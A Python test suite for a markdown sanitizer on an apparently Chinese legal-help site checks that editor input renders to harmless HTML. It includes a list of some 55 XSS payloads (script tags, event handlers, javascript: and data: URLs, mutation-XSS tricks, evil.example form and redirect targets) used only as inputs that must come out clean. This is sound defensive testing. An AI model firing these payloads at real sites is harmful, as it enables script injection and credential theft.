"""What editors write becomes HTML that can do no harm."""

import json
import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from content import markdown
from content.markdown import Aids, Picture, cleaning

PICTURE = Picture(
    "/media/a/800.jpg", "坡道", 800, 600, {"image/avif": "/media/a/320.avif 320w, /media/a/800.avif 800w"}
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://[evil'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div onclick=alert(1) class=panel id=main>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](http:evil)",
    "[x](https://[evil)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror=alert(1) x="](picture:a)',
    '![x](picture:a"onerror=alert(1))',
    '[a](/x "onmouseover=alert(1)")',
    '[a](/x"onmouseover=alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
]


def harm(html):
    """Say what of this markup a browser could be led astray by."""
    found = []
    for node in LexborHTMLParser(html).css("*"):
        if node.tag in {"html", "head", "body"}:
            continue
        if node.tag not in cleaning.TAGS:
            found.append(node.tag)
        for name, value in node.attributes.items():
            known = {*cleaning.ATTRIBUTES.get(node.tag, ()), "lang", "title"}  # of any tag: they say, and do nothing
            if name.startswith("on") or name == "style" or name not in known:
                found.append(f"{node.tag} {name}")
            if name in {"href", "src", "srcset"} and not (value or "").startswith(
                ("/", "#", "https://", "http://", "tel:")
            ):
                found.append(f"{node.tag} {name}={value}")
            if (value or "").startswith(("//", "/\\")):
                found.append(f"{node.tag} leaves us")
    return found


def test_what_has_done_harm_to_others_does_none_here():
    """Lists of attacks others keep: see docs/attribution.md."""
    known = json.loads(Path(__file__).with_name("hostile.json").read_text("utf-8"))
    aids = Aids({"a": PICTURE})

    assert len(known) > 200
    for attack in known:
        drawn = markdown.render(attack, aids)
        assert harm(drawn.html) == [], attack
        assert harm(markdown.render(markdown.tidy(attack), aids).html) == [], attack
        assert harm(markdown.cleaned(attack)) == [], attack


@pytest.mark.parametrize("attack", HOSTILE)
def test_what_would_do_harm_does_none(attack):
    aids = Aids({"a": PICTURE})

    assert harm(markdown.render(attack, aids).html) == []
    assert harm(markdown.render(markdown.tidy(attack), aids).html) == []
    assert harm(markdown.cleaned(attack)) == []  # the second sieve holds alone


@given(st.text(alphabet=st.sampled_from("<>\"'=/()[]!#|`&;:*_ \nabjonscriptf讨薪仲裁" + string.digits), max_size=80))
def test_nothing_anybody_types_does_harm(text):
    rendered = markdown.render(text, Aids({"a": PICTURE}, {"讨薪": "wages", "仲裁": "arbitration"}))

    assert harm(rendered.html) == []
    assert markdown.cleaned(rendered.html) == rendered.html  # clean already: to clean again changes nothing
    assert isinstance(markdown.plain(text), str)
    assert isinstance(markdown.faults(text), list)


@pytest.mark.parametrize(
    ("source", "codes"),
    [
        ("好的 <b>字</b>", ["markdown_html"]),
        ("[去](javascript:alert(1))", ["markdown_link"]),
        ("[去](别处)", ["markdown_link"]),
        ("[去](https:///x)", ["markdown_link"]),
        ("![图](https://elsewhere.example/a.png)", ["markdown_picture"]),
        ("![图](picture:gone)", ["markdown_picture"]),
        ("<b>\n[去](javascript:x) ![图](x.png)", ["markdown_html", "markdown_link", "markdown_picture"]),
        ("[去](/stations) [国家](https://flk.npc.gov.cn) [打](tel:12348) [上](#part-1) ![图](picture:a)", []),
        ("3 < 5，5 > 3", []),
    ],
)
def test_says_all_that_must_not_be_there(source, codes):
    assert markdown.faults(source, lambda one: one == "a") == codes


def test_headings_stand_below_the_title_and_make_the_outline():
    rendered = markdown.render("# 一\n\n###### 二 **重**\n\n## 三")

    assert [(one.id, one.level, one.text) for one in rendered.headings] == [
        ("part-1", 2, "一"),
        ("part-2", 4, "二 重"),
        ("part-3", 2, "三"),
    ]
    assert '<h2 id="part-1">一</h2>' in rendered.html
    assert "<h1" not in rendered.html


def test_tables_have_heads_and_can_be_scrolled_by_keyboard():
    html = markdown.render("| 甲 | 乙 |\n|---|--:|\n| 一 | 二 |").html

    assert '<th scope="col">甲</th>' in html
    assert '<div class="scroll" role="region" tabindex="0"' in html


def test_links_elsewhere_are_told_apart_from_ours():
    html = markdown.render("[法](https://flk.npc.gov.cn/) [近](/stations)").html

    assert '<a href="https://flk.npc.gov.cn/" rel="noopener noreferrer external">法</a>' in html
    assert '<a href="/stations">近</a>' in html


def test_pictures_come_from_the_library_alone():
    html = markdown.render("![新坡道](picture:a)\n\n![没了](picture:b)", Aids({"a": PICTURE})).html

    assert 'type="image/avif" srcset="/media/a/320.avif 320w, /media/a/800.avif 800w"' in html
    assert '<img src="/media/a/800.jpg" alt="新坡道" width="800" height="600" loading="lazy">' in html
    assert "<em>（图片：没了）</em>" in html
    assert markdown.picture_ids("![x](picture:a) ![y](picture:b) ![z](picture:a) ![w](http://x/)") == ["a", "b"]


def test_a_hard_word_is_explained_where_it_first_stands():
    terms = {"仲裁": "zc", "劳动仲裁": "ldzc"}

    rendered = markdown.render("# 仲裁\n\n[仲裁](/x) 先劳动仲裁，再仲裁，又仲裁。\n\n劳动仲裁", Aids(terms=terms))

    assert rendered.terms == ["劳动仲裁", "仲裁"]
    assert rendered.html.count('class="term"') == 2
    assert '<a class="term" id="use-ldzc" href="#term-ldzc">劳动仲裁</a>' in rendered.html
    assert '<h2 id="part-1">仲裁</h2>' in rendered.html
    assert '<a href="/x">仲裁</a>' in rendered.html


def test_the_words_alone_are_what_a_reader_hears():
    source = (
        "## 先做\n\n**留好**[证据](/x)\n别丢\n\n- 一\n- 二\n\n```\n条\n```\n\n| 甲 |\n|-|\n| 乙 |\n\n![坡道](picture:a)"
    )

    assert markdown.plain(source) == "先做\n留好证据\n别丢\n一\n二\n条\n甲\n乙\n坡道"
    assert markdown.links("[`甲`**乙**](/x) 丙 [丁](tel:12348)") == [("甲乙", "/x"), ("丁", "tel:12348")]


def test_what_nobody_can_see_is_not_kept():
    assert markdown.tidy("一\r\n二\r三\u200b\u202e四\x00\ufeff五\t六") == "一\n二\n三四五\t六"


def test_an_address_nobody_can_read_leads_nowhere():
    assert not cleaning.may_lead("https://[x")
